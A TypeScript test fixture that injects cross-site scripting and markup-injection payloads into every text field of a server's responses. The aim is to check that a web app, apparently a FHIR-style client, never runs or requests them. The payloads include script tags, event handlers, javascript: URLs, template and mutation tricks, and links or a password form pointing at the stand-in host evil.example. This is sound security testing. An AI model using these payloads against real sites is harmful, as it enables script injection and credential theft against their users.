// What a hostile server, or whoever stored something in an honest one, would like a page to take for markup or script.

/** A text that attacks a page; `field` names where it was put, so that whatever it does tells where from. */
export type Payload = (field: string) => string;

/** One of each kind. `alert` is watched, and nothing of `evil.example` may be asked for. */
export const payloads: Record<string, Payload> = {
  script: (field) => `<script>alert('${field}')</script>`,
  image: (field) => `<img src=x onerror="alert('${field}')">`,
  svg: (field) => `<svg onload=alert('${field}')><animate onbegin=alert('${field}') attributeName=x dur=1s>`,
  'out of double quotes': (field) => `"><a id="${field}" href="javascript:alert('${field}')" autofocus onfocus="alert('${field}')">`,
  'out of single quotes': (field) => `' autofocus onfocus='alert("${field}")' style='animation-name:x' x='`,
  'script address': (field) => `javascript:alert('${field}')//`,
  'disguised script address': (field) => ` \u0001java\tscript\n:alert('${field}')`,
  'data address': (field) => `data:text/html,<script>alert('${field}')</script>`,
  'other origin': (field) => `//evil.example/${field}`,
  template: (field) => `{{constructor.constructor('alert("${field}")')()}} \${alert('${field}')} <%= alert('${field}') %>`,
  'out of raw text': (field) => `</title></textarea></style></script><iframe src="//evil.example/${field}" srcdoc="<script>alert('${field}')</script>">`,
  mutation: (field) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=//evil.example/${field} onerror=alert('${field}')&gt;">`,
  'head elements': (field) => `<base href="//evil.example/"><link rel=stylesheet href="//evil.example/${field}.css"><meta http-equiv=refresh content="0;url=//evil.example/${field}">`,
  form: (field) => `<form action="//evil.example/${field}"><input name=password><button formaction="javascript:alert('${field}')" autofocus onfocus=alert('${field}')>`,
  'right to left': (field) => `\u202E<b onclick=alert('${field}')>\u202C\u2066\u200B\uFEFF\u200D${'\u0301'.repeat(40)}`,
  'control characters': (field) => `\u0000\u0007\u001B[31m\u2028<svg\fonload=alert('${field}')\u0000>\u2029`,
  entities: (field) => `&lt;img src=x onerror=alert(&#39;${field}&#39;)&gt;&#x3c;script&#x3e;alert('${field}')`,
  'very long': (field) => `<img src=x onerror=alert('${field}')>`.repeat(150),
};

const ADDRESSES = ['script address', 'disguised script address', 'data address', 'other origin'];

/** What a field gets in turn: an address by itself, because nothing else is taken for one; all markup together. */
export const turns: Record<string, Payload> = {
  ...Object.fromEntries(ADDRESSES.map((name) => [name, payloads[name]!])),
  markup: (field) => Object.keys(payloads).filter((name) => !ADDRESSES.includes(name)).map((name) => payloads[name]!(field)).join(' '),
};

/** Puts payloads into every answer of the server, each field in turn getting each of them. */
export class Poison {
  /** The fields that got a payload. */
  readonly fields = new Set<string>();
  /** The pairs of a payload and a field. */
  readonly pairs = new Set<string>();
  /** What was put where, since `forget`. */
  put: { field: string; text: string }[] = [];
  private turns = new Map<string, number>();

  /** Which texts are replaced, by their key, and by what a payload is preceded, so that it is still taken for such a text. */
  constructor(public wants: (key: string, path: string) => string | undefined, private shift = 0) {}

  /** Begins with the next payload. */
  next() {
    this.shift += 1;
    this.forget();
  }

  /** Forgets what was put where. */
  forget() {
    this.put = [];
    this.turns.clear();
  }

  /** The payload whose turn it is in this field. */
  text(field: string, before = ''): string {
    const names = Object.keys(turns);
    const turn = this.turns.get(field) ?? 0;
    this.turns.set(field, turn + 1);
    const name = names[(turn + this.shift) % names.length]!;
    const text = before + turns[name]!(field);
    this.fields.add(field);
    this.pairs.add(`${name} in ${field}`);
    this.put.push({ field, text });
    return text;
  }

  /** The same answer, poisoned. */
  answer(value: any, path = ''): any {
    if (Array.isArray(value)) return value.map((item) => this.answer(item, path));
    if (typeof value === 'string') {
      const before = this.wants(path.split('.').at(-1)!, path);
      return before === undefined ? value : this.text(path, before);
    }
    if (typeof value !== 'object' || value === null) return value;
    if (value.resourceType === 'Project') value = { ...PROJECT, ...value };
    // A field is named after its resource, wherever that came from.
    const isResource = typeof value.resourceType === 'string' && !path.endsWith('AccessPolicy.resource');
    const at = isResource ? value.resourceType : path;
    return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, this.answer(item, at ? `${at}.${key}` : key)]));
  }
}

/** What a project may have and the sandbox's has not. */
const PROJECT = {
  description: 'x',
  features: ['x'],
  link: [{ project: { reference: 'Project/x', display: 'x' } }],
  setting: [{ name: 'x', valueString: 'x' }],
  secret: [{ name: 'x', valueString: 'x' }],
  systemSetting: [{ name: 'x', valueString: 'x' }],
  site: [{ name: 'x', domain: ['x'], googleClientId: 'x', recaptchaSiteKey: 'x' }],
};

/** What the app finds its way by, and shows only now and then. */
const STRUCTURE = [
  'resourceType', 'id', 'reference', 'url', 'relation', 'mode', 'type', 'system', 'versionId', 'lastUpdated', 'status',
  'etag', 'location', 'profileType', 'access_token', 'refresh_token', 'code', 'login', 'token_type', 'method', 'severity',
];

/** Every text that is there to be read. */
export function words(key: string, path: string): string | undefined {
  return STRUCTURE.includes(key) && path !== 'AccessPolicy.resource.resourceType' ? undefined : '';
}

/** Only one of the texts the app finds its way by; those of a reference are still references. */
export function structure(wanted: string): (key: string) => string | undefined {
  const before = wanted === 'reference' ? 'Practitioner/' : '';
  return (key) => (key === wanted ? before : undefined);
}
